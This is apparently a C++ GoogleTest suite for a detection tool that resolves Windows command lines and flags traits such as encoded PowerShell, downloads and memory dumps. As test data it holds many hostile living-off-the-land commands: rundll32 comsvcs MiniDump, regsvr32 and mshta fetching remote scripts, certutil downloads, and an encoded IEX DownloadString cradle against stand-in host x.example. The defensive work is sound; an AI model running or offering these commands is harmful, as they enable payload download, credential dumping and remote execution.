#include <gtest/gtest.h>

#include "tests/source/resolver_machine.h"

namespace hozen {
namespace {

struct HostCase {
  const char* command_line;
  const char* hosts;
  const char* payload;
  const char* kind;
  const char* flags = "";
  const char* payload_arguments = "";
  const char* export_name = "";
};

void PrintTo(const HostCase& host, std::ostream* out) { *out << host.command_line; }

class CommandLineHost : public testing::TestWithParam<HostCase> {
 protected:
  CommandLineHost() {
    for (const char* file : {"C:\\TMP\\p.exe", "C:\\TMP\\x.dll", "C:\\TMP\\s.vbs",
                             "C:\\Prog Dir\\x.dll", "C:\\TMP\\s.ps1", "C:\\TMP\\t.bat"}) {
      machine_.add(file);
    }
  }
  ResolverMachine machine_;
};

TEST_P(CommandLineHost, NamesItsPayload) {
  const HostCase& expected = GetParam();
  const ResolvedCommand command = machine_.resolve(expected.command_line);
  EXPECT_EQ(host_names(command), expected.hosts) << joined(command.steps);
  EXPECT_EQ(command.payload, expected.payload) << joined(command.steps);
  EXPECT_EQ(command.payload_kind, expected.kind);
  EXPECT_EQ(joined(command.flags), expected.flags);
  EXPECT_EQ(command.payload_arguments, expected.payload_arguments);
  EXPECT_EQ(command.export_name, expected.export_name);
  const bool on_volume = command.payload.size() > 2 && command.payload.substr(1, 2) == ":\\";
  EXPECT_EQ(command.payload_path.has_value(), on_volume);
}

INSTANTIATE_TEST_SUITE_P(
    Rundll32, CommandLineHost,
    testing::Values(
        HostCase{R"(rundll32.exe C:\TMP\x.dll,Start a b)", "rundll32.exe", R"(C:\TMP\x.dll)", "dll",
                 "", "a b", "Start"},
        HostCase{R"(rundll32 "C:\Prog Dir\x.dll",#12)", "rundll32.exe", R"(C:\Prog Dir\x.dll)",
                 "dll", "", "", "#12"},
        HostCase{R"(rundll32 "C:\Prog Dir\x.dll,Start" y)", "rundll32.exe", R"(C:\Prog Dir\x.dll)",
                 "dll", "", "y", "Start"},
        HostCase{R"(rundll32 C:\Prog Dir\x.dll,Start)", "rundll32.exe", R"(C:\Prog Dir\x.dll)",
                 "dll", "", "", "Start"},
        HostCase{R"(rundll32 C:\TMP\x Start)", "rundll32.exe", R"(C:\TMP\x.dll)", "dll", "", "",
                 "Start"},
        HostCase{R"(rundll32 C:\TMP\x.dll , Start)", "rundll32.exe", R"(C:\TMP\x.dll)", "dll", "",
                 "", "Start"},
        HostCase{R"(rundll32 javascript:"\..\mshtml,RunHTMLApplication ";alert(1))", "rundll32.exe",
                 R"(javascript:"\..\mshtml,RunHTMLApplication ";alert(1))", "inline", "script_url"},
        HostCase{R"(rundll32 url.dll,FileProtocolHandler C:\TMP\p.exe)", "rundll32.exe url.dll",
                 R"(C:\TMP\p.exe)", "program", "", "", "FileProtocolHandler"},
        HostCase{R"(rundll32 url.dll,OpenURL http://x.example/a)", "rundll32.exe url.dll",
                 "http://x.example/a", "url", "url_argument, url", "", "OpenURL"},
        HostCase{R"(rundll32 C:\Windows\System32\shell32.dll,ShellExec_RunDLLA "C:\TMP\p.exe" -z)",
                 "rundll32.exe shell32.dll", R"(C:\TMP\p.exe)", "program", "", "-z",
                 "ShellExec_RunDLLA"},
        HostCase{R"(rundll32 shell32.dll,Control_RunDLL C:\TMP\e.cpl,,1)",
                 "rundll32.exe shell32.dll", R"(C:\TMP\e.cpl)", "dll", "", ",1", "Control_RunDLL"},
        HostCase{R"(rundll32 advpack.dll,LaunchINFSection C:\TMP\e.inf,Default,1,)",
                 "rundll32.exe advpack.dll", R"(C:\TMP\e.inf)", "script", "", "",
                 "LaunchINFSection"},
        HostCase{R"(rundll32 setupapi,InstallHinfSection DefaultInstall 128 C:\Prog Dir\e.inf)",
                 "rundll32.exe setupapi.dll", R"(C:\Prog Dir\e.inf)", "script", "", "",
                 "InstallHinfSection"},
        HostCase{R"(rundll32 pcwutl.dll,LaunchApplication C:\TMP\p.exe)", "rundll32.exe pcwutl.dll",
                 R"(C:\TMP\p.exe)", "program", "", "", "LaunchApplication"},
        HostCase{R"(rundll32 zipfldr.dll,RouteTheCall C:\TMP\p.exe)", "rundll32.exe zipfldr.dll",
                 R"(C:\TMP\p.exe)", "program", "", "", "RouteTheCall"},
        HostCase{R"(rundll32 comsvcs.dll, MiniDump 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "memory_dump",
                 R"(624 C:\TMP\l.dmp full)", "MiniDump"},
        HostCase{R"(rundll32 comsvcs.dll,#+24 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "memory_dump",
                 R"(624 C:\TMP\l.dmp full)", "#+24"},
        HostCase{R"(rundll32 comsvcs.dll, #+000024 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "memory_dump",
                 R"(624 C:\TMP\l.dmp full)", "#+000024"},
        HostCase{R"(rundll32 comsvcs.dll #024 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "memory_dump",
                 R"(624 C:\TMP\l.dmp full)", "#024"},
        HostCase{R"(rundll32 comsvcs.dll,#65560 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "memory_dump",
                 R"(624 C:\TMP\l.dmp full)", "#65560"},
        HostCase{R"(rundll32 comsvcs.dll,#-65512 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "memory_dump",
                 R"(624 C:\TMP\l.dmp full)", "#-65512"},
        HostCase{R"(rundll32 comsvcs.dll,#241 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "", R"(624 C:\TMP\l.dmp full)",
                 "#241"},
        HostCase{R"(rundll32 comsvcs.dll,#2 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "", R"(624 C:\TMP\l.dmp full)", "#2"},
        HostCase{R"(rundll32 comsvcs.dll,# 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "", R"(624 C:\TMP\l.dmp full)", "#"},
        HostCase{R"(rundll32 comsvcs.dll,#x24 624 C:\TMP\l.dmp full)", "rundll32.exe",
                 R"(C:\Windows\System32\comsvcs.dll)", "dll", "", R"(624 C:\TMP\l.dmp full)",
                 "#x24"},
        HostCase{"rundll32 -sta {00000000-1111-2222-3333-444444444444}", "rundll32.exe",
                 "{00000000-1111-2222-3333-444444444444}", "com_server"},
        HostCase{R"(rundll32 \\srv\share\x.dll,a)", "rundll32.exe", R"(\\srv\share\x.dll)", "dll",
                 "unc_argument, unc_path", "", "a"},
        HostCase{R"(rundll32 C:\a\b.txt:x.dll,a)", "rundll32.exe", R"(C:\a\b.txt:x.dll)", "dll",
                 "alternate_data_stream", "", "a"},
        HostCase{R"(C:\Windows\SysWOW64\rundll32.exe C:\Windows\System32\y.dll,a)", "rundll32.exe",
                 R"(C:\Windows\SysWOW64\y.dll)", "dll", "", "", "a"},
        HostCase{"rundll32.exe", "", "", ""}));

INSTANTIATE_TEST_SUITE_P(
    ScriptHosts, CommandLineHost,
    testing::Values(
        HostCase{R"(regsvr32 /s C:\TMP\x.dll)", "regsvr32.exe", R"(C:\TMP\x.dll)", "dll"},
        HostCase{R"(regsvr32.exe /s /u /n /i:http://x.example/a.sct scrobj.dll)", "regsvr32.exe",
                 "http://x.example/a.sct", "url", "url_argument, remote_scriptlet, url"},
        HostCase{R"(regsvr32 /s /n /i:C:\TMP\a.sct scrobj)", "regsvr32.exe", R"(C:\TMP\a.sct)",
                 "script"},
        HostCase{R"(regsvr32 /i:params C:\TMP\x.dll)", "regsvr32.exe", R"(C:\TMP\x.dll)", "dll"},
        HostCase{R"(mshta C:\TMP\a.hta arg)", "mshta.exe", R"(C:\TMP\a.hta)", "script", "", "arg"},
        HostCase{R"(mshta "C:\Prog Dir\a.hta" b)", "mshta.exe", R"(C:\Prog Dir\a.hta)", "script",
                 "", "b"},
        HostCase{"mshta http://x.example/a.hta", "mshta.exe", "http://x.example/a.hta", "url",
                 "url_argument, url"},
        HostCase{"mshta \"javascript:a=1;close()\"", "mshta.exe", "javascript:a=1;close()",
                 "inline", "script_url"},
        HostCase{"mshta vbscript:Execute(\"x\")(window.close)", "mshta.exe",
                 "vbscript:Execute(\"x\")(window.close)", "inline", "script_url"},
        HostCase{R"(wscript.exe //B //Nologo C:\TMP\s.vbs a "b c")", "wscript.exe",
                 R"(C:\TMP\s.vbs)", "script", "", R"(a "b c")"},
        HostCase{R"(cscript //e:vbscript C:\TMP\picture.jpg)", "cscript.exe",
                 R"(C:\TMP\picture.jpg)", "script", "script_engine_override"},
        HostCase{R"(cscript nope.vbs)", "cscript.exe", "nope.vbs", "script"},
        HostCase{R"(msiexec /q /i http://x.example/a.msi)", "msiexec.exe", "http://x.example/a.msi",
                 "url", "url_argument, url"},
        HostCase{R"(msiexec.exe /i"C:\Prog Dir\a.msi" /qn)", "msiexec.exe", R"(C:\Prog Dir\a.msi)",
                 "document"},
        HostCase{R"(msiexec /y C:\TMP\x.dll)", "msiexec.exe", R"(C:\TMP\x.dll)", "dll"},
        HostCase{R"(msiexec /zC:\TMP\x.dll)", "msiexec.exe", R"(C:\TMP\x.dll)", "dll"},
        HostCase{"msiexec /x {11111111-2222-3333-4444-555555555555} /passive", "msiexec.exe",
                 "{11111111-2222-3333-4444-555555555555}", "product"},
        HostCase{"msiexec /fu {11111111-2222-3333-4444-555555555555}", "msiexec.exe",
                 "{11111111-2222-3333-4444-555555555555}", "product"},
        HostCase{R"(msiexec /package C:\TMP\a.msi)", "msiexec.exe", R"(C:\TMP\a.msi)", "document"},
        HostCase{"msiexec /passive", "", "", ""}));

INSTANTIATE_TEST_SUITE_P(
    WindowsTools, CommandLineHost,
    testing::Values(
        HostCase{R"(C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule)", "svchost.exe",
                 "Schedule", "service"},
        HostCase{"svchost.exe -k LocalService", "svchost.exe", "LocalService", "service"},
        HostCase{"dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "dllhost.exe",
                 "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "com_server"},
        HostCase{R"(conhost.exe --headless C:\TMP\p.exe -x)", "conhost.exe", R"(C:\TMP\p.exe)",
                 "program", "hidden_window", "-x"},
        HostCase{"conhost.exe 0xffffffff -ForceV1", "", "", ""},
        HostCase{R"(forfiles /p C:\Windows /m notepad.exe /c "cmd /c C:\TMP\p.exe -y")",
                 "forfiles.exe cmd.exe", R"(C:\TMP\p.exe)", "program", "", "-y"},
        HostCase{R"(forfiles /c C:\TMP\p.exe)", "forfiles.exe", R"(C:\TMP\p.exe)", "program"},
        HostCase{R"(pcalua.exe -a C:\TMP\p.exe -c -v 1)", "pcalua.exe", R"(C:\TMP\p.exe)",
                 "program", "", "-v 1"},
        HostCase{R"(explorer.exe /root,"C:\TMP\p.exe")", "explorer.exe", R"(C:\TMP\p.exe)",
                 "program"},
        HostCase{R"(explorer C:\TMP\p.exe)", "explorer.exe", R"(C:\TMP\p.exe)", "program"},
        HostCase{"schtasks /run /tn \"\\My Task\"", "schtasks.exe", "\\My Task", "task"},
        HostCase{R"(schtasks /create /sc minute /tr "C:\TMP\p.exe -a" /tn x)", "schtasks.exe",
                 R"(C:\TMP\p.exe)", "program", "", "-a"},
        HostCase{"schtasks /run /s srv /tn t", "schtasks.exe", "t", "task", "remote_host"},
        HostCase{R"(wmic /node:srv process call create "C:\TMP\p.exe -b")", "wmic.exe",
                 R"(C:\TMP\p.exe)", "program", "remote_host", "-b"},
        HostCase{R"(wmic os get /format:"https://x.example/a.xsl")", "wmic.exe",
                 "https://x.example/a.xsl", "url", "url_argument, url"},
        HostCase{
            R"(C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe /nologo C:\TMP\a.xml)",
            "msbuild.exe", R"(C:\TMP\a.xml)", "script"},
        HostCase{R"(installutil /logfile= /LogToConsole=false /U C:\TMP\x.dll)", "installutil.exe",
                 R"(C:\TMP\x.dll)", "dll"},
        HostCase{R"(regasm.exe /U C:\TMP\x.dll)", "regasm.exe", R"(C:\TMP\x.dll)", "dll"},
        HostCase{R"(odbcconf /s /a {REGSVR "C:\TMP\x.dll"})", "odbcconf.exe", R"(C:\TMP\x.dll)",
                 "dll"},
        HostCase{R"(odbcconf -f C:\TMP\a.rsp)", "odbcconf.exe", R"(C:\TMP\a.rsp)", "script"},
        HostCase{R"(control.exe C:\TMP\a.cpl,@1)", "control.exe", R"(C:\TMP\a.cpl)", "dll"},
        HostCase{"control.exe printers", "", "", ""},
        HostCase{"control /name Microsoft.System", "", "", ""},
        HostCase{R"(hh.exe C:\TMP\a.chm)", "hh.exe", R"(C:\TMP\a.chm)", "document"},
        HostCase{R"(javaw -Xmx1g -jar C:\TMP\a.jar -q)", "javaw.exe", R"(C:\TMP\a.jar)", "program",
                 "", "-q"},
        HostCase{R"(java -cp C:\TMP Main)", "java.exe", "Main", "inline"},
        HostCase{R"(java -Xmx1g -cp "C:\Prog Dir\a.jar" x.Main -q)", "java.exe",
                 R"(C:\Prog Dir\a.jar)", "program", "", "x.Main -q"},
        HostCase{R"(javaw -classpath lib;C:\TMP\a.jar Main)", "javaw.exe", R"(C:\TMP\a.jar)",
                 "program", "", "Main"},
        HostCase{"java -version", "", "", ""},
        HostCase{R"(pythonw.exe -u C:\TMP\a.py 1)", "pythonw.exe", R"(C:\TMP\a.py)", "script", "",
                 "1"},
        HostCase{R"(python -c "import os")", "python.exe", R"("import os")", "inline"},
        HostCase{R"(node C:\TMP\a.js)", "node.exe", R"(C:\TMP\a.js)", "script"},
        HostCase{R"(at \\srv 13:20 /interactive C:\TMP\p.exe -k)", "at.exe", R"(C:\TMP\p.exe)",
                 "program", "unc_argument, remote_host", "-k"},
        HostCase{R"(runas /user:admin /savecred "cmd /c C:\TMP\p.exe")", "runas.exe cmd.exe",
                 R"(C:\TMP\p.exe)", "program"},
        HostCase{R"(cmstp.exe /ni /s C:\TMP\a.inf)", "cmstp.exe", R"(C:\TMP\a.inf)", "script"},
        HostCase{R"(presentationhost.exe http://x.example/a.xbap)", "presentationhost.exe",
                 "http://x.example/a.xbap", "url", "url_argument, url"},
        HostCase{R"(SyncAppvPublishingServer.exe "n;Start-Process C:\TMP\p.exe")",
                 "syncappvpublishingserver.exe", R"(C:\TMP\p.exe)", "program"},
        HostCase{"workfolders.exe", "workfolders.exe", R"(C:\Windows\System32\control.exe)",
                 "program", "relative_path"},
        HostCase{R"(certutil -urlcache -split -f https://x.example/a C:\TMP\a)", "certutil.exe",
                 "https://x.example/a", "url", "url_argument, download, url"},
        HostCase{"bitsadmin /list", "", "", ""},
        HostCase{R"(mmc.exe C:\TMP\a.msc)", "mmc.exe", R"(C:\TMP\a.msc)", "document"}));

INSTANTIATE_TEST_SUITE_P(
    PowerShell, CommandLineHost,
    testing::Values(
        HostCase{R"(powershell -ExecutionPolicy Bypass -File "C:\TMP\s.ps1" -a 1)",
                 "powershell.exe", R"(C:\TMP\s.ps1)", "script", "execution_policy_bypass", "-a 1"},
        HostCase{"powershell.exe -NoP -sta -NonI -W Hidden -Enc QQBCAA==", "powershell.exe", "AB",
                 "inline", "no_profile, non_interactive, hidden_window, encoded_powershell"},
        // IEX (New-Object Net.WebClient).DownloadString('http://x.example/')
        HostCase{"powershell /w 1 \u2013ec "
                 "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
                 "LgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0A"
                 "cABsAGUALwAnACkA",
                 "powershell.exe",
                 "IEX (New-Object Net.WebClient).DownloadString('http://x.example/')", "inline",
                 "hidden_window, encoded_powershell, invoke_expression, download, url_argument"},
        HostCase{"powershell -e not!base64", "powershell.exe", "not!base64", "inline",
                 "encoded_powershell"},
        HostCase{R"(powershell -c "& 'C:\Prog Dir\p.exe' -x")", "powershell.exe",
                 R"(C:\Prog Dir\p.exe)", "program", "", "-x"},
        HostCase{R"(powershell -Command Start-Process -FilePath C:\TMP\p.exe; exit)",
                 "powershell.exe", R"(C:\TMP\p.exe)", "program"},
        HostCase{R"(powershell C:\TMP\s.ps1)", "powershell.exe", R"(C:\TMP\s.ps1)", "script"},
        HostCase{R"(powershell -nop $env:TEMP\a.ps1)", "powershell.exe",
                 R"(C:\Users\ann\AppData\Local\Temp\a.ps1)", "script", "no_profile"},
        HostCase{"powershell -c \"rundll32 C:\\TMP\\x.dll,Go\"", "powershell.exe rundll32.exe",
                 R"(C:\TMP\x.dll)", "dll", "", "", "Go"},
        HostCase{"powershell \u2015command Get-Date", "powershell.exe", "Get-Date", "inline"},
        HostCase{"powershell -ep:bypass -c i`e`x $a", "powershell.exe", "i`e`x $a", "inline",
                 "execution_policy_bypass, obfuscated, invoke_expression"},
        HostCase{"powershell -version 2 -c dir", "powershell.exe", "dir", "inline",
                 "powershell_version_2"},
        HostCase{"pwsh C:\\TMP\\s.ps1 x", "pwsh.exe", R"(C:\TMP\s.ps1)", "script", "", "x"},
        HostCase{"pwsh -c iwr https://x.example/a", "pwsh.exe", "iwr https://x.example/a", "inline",
                 "url_argument, download"},
        HostCase{"powershell.exe -noexit", "", "", ""},
        HostCase{R"(powershell -c "& 'C:\TMP\s.ps1'")", "powershell.exe", R"(C:\TMP\s.ps1)",
                 "script"},
        HostCase{R"(powershell "& 'C:\TMP\s.ps1' -a")", "powershell.exe", R"(C:\TMP\s.ps1)",
                 "script", "", "-a"},
        HostCase{R"(powershell -Command . C:\TMP\s.ps1)", "powershell.exe", R"(C:\TMP\s.ps1)",
                 "script"},
        HostCase{R"(powershell -c ". 'C:\TMP\s.ps1'")", "powershell.exe", R"(C:\TMP\s.ps1)",
                 "script"},
        HostCase{R"~(powershell -c "IEX (gc C:\TMP\s.ps1 -Raw)")~", "powershell.exe",
                 R"(C:\TMP\s.ps1)", "script", "invoke_expression"},
        HostCase{R"(powershell IEX(Get-Content -Encoding utf8 -Path 'C:\TMP\a b.txt'))",
                 "powershell.exe", R"(C:\TMP\a b.txt)", "script", "invoke_expression"},
        HostCase{R"(powershell -c "gc C:\TMP\s.ps1 | iex")", "powershell.exe", R"(C:\TMP\s.ps1)",
                 "script", "invoke_expression"},
        HostCase{R"(powershell $s = [IO.File]::ReadAllText('C:\TMP\s.ps1'); iex $s)",
                 "powershell.exe", R"(C:\TMP\s.ps1)", "script", "invoke_expression"},
        HostCase{R"(powershell -c &([scriptblock]::Create((gc C:\TMP\s.ps1 -Raw))))",
                 "powershell.exe", R"(C:\TMP\s.ps1)", "script"},
        HostCase{R"(powershell -c Import-Module C:\TMP\m.psm1 -Force)", "powershell.exe",
                 R"(C:\TMP\m.psm1)", "script"},
        // Read and not run, or not named.
        HostCase{R"(powershell -c gc C:\TMP\s.ps1)", "powershell.exe", R"(gc C:\TMP\s.ps1)",
                 "inline"},
        HostCase{R"(powershell -c Import-Module BitsTransfer)", "powershell.exe",
                 "Import-Module BitsTransfer", "inline"},
        HostCase{R"~(powershell -c "iex (gc $p)")~", "powershell.exe", "iex (gc $p)", "inline",
                 "invoke_expression"},
        HostCase{R"~(powershell -c "iex (C:\my-gc a.txt)")~", "powershell.exe",
                 R"(iex (C:\my-gc a.txt))", "inline", "invoke_expression"}));

TEST(Java, EachArchiveAndAgentOfTheLineIsNamed) {
  ResolverMachine machine;
  machine.add("C:\\TMP\\a.jar").add("C:\\TMP\\b.jar").add("C:\\TMP\\agent.jar");
  const ResolvedCommand command = machine.resolve(
      R"(java -javaagent:C:\TMP\agent.jar=x -cp C:\TMP\a.jar;C:\TMP\b.jar;C:\TMP Main)");
  EXPECT_EQ(command.payload, R"(C:\TMP\a.jar)");
  EXPECT_EQ(command.payload_existence, Existence::exists);
  EXPECT_EQ(joined(command.other_commands), R"("C:\TMP\agent.jar", "C:\TMP\b.jar")");
  ASSERT_EQ(command.others.size(), 2u);
  for (const auto& other : command.others)
    EXPECT_EQ(other.image_existence, Existence::exists) << other.image;
}

TEST(PowerShellEncoded, KeepsTheDecodedText) {
  const ResolvedCommand command = ResolverMachine{}.resolve(
      "powershell -enc cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABRAFEAQQA9AA==");
  EXPECT_EQ(command.decoded, "powershell -enc QQA=\nA");
  EXPECT_EQ(host_names(command), "powershell.exe powershell.exe");
  EXPECT_EQ(command.payload, "A");
}

struct ScriptCase {
  const char* script;
  const char* payload;  ///< "" for the whole text
  const char* others;
};

TEST(PowershellStatements, EachThatStartsAFileIsFollowed) {
  const ScriptCase cases[] = {
      {R"(Start-Sleep 5; C:\TMP\p.exe -x)", R"(C:\TMP\p.exe)", ""},
      {R"(C:\TMP\t.bat; C:\TMP\p.exe -x)", R"(C:\TMP\t.bat)", R"("C:\TMP\p.exe" -x)"},
      {R"(Get-Date; & 'C:\TMP\p.exe' -x)", "", R"("C:\TMP\p.exe" -x)"},
      {R"(if (Test-Path C:\x) { . C:\TMP\s.ps1 } else { Start-Process -FilePath 'C:\TMP\p.exe' })",
       "", R"("C:\TMP\s.ps1", "C:\TMP\p.exe")"},
      {R"($r = C:\TMP\p.exe; Get-Date | Out-Null && rundll32 C:\TMP\x.dll,Go)", R"(C:\TMP\p.exe)",
       R"("rundll32" C:\TMP\x.dll,Go)"},
      {R"(Write-Host 'it; C:\TMP\p.exe'; 'C:\TMP\p.exe')", "", ""},
      {"C:\\TMP\\t.bat 2>&1\nC:\\TMP\\p.exe", R"(C:\TMP\t.bat)", R"("C:\TMP\p.exe")"},
      {R"(iex (gc C:\TMP\s.ps1); iex (gc C:\TMP\t.bat))", R"(C:\TMP\s.ps1)", R"("C:\TMP\t.bat")"},
      {R"(C:\TMP\p.exe; iex (gc C:\TMP\s.ps1))", R"(C:\TMP\p.exe)", R"("C:\TMP\s.ps1")"},
  };
  ResolverMachine machine;
  for (const char* file : {"C:\\TMP\\p.exe", "C:\\TMP\\x.dll", "C:\\TMP\\s.ps1", "C:\\TMP\\t.bat"})
    machine.add(file);
  for (const auto& [script, payload, others] : cases) {
    const ResolvedCommand command = machine.resolve(std::string{"powershell -c "} + script);
    EXPECT_EQ(command.payload, *payload == '\0' ? script : payload) << script;
    EXPECT_EQ(joined(command.other_commands), others) << script;
    for (const auto& other : command.others)
      EXPECT_EQ(other.target_existence(), Existence::exists) << script;
  }
}

}  // namespace
}  // namespace hozen
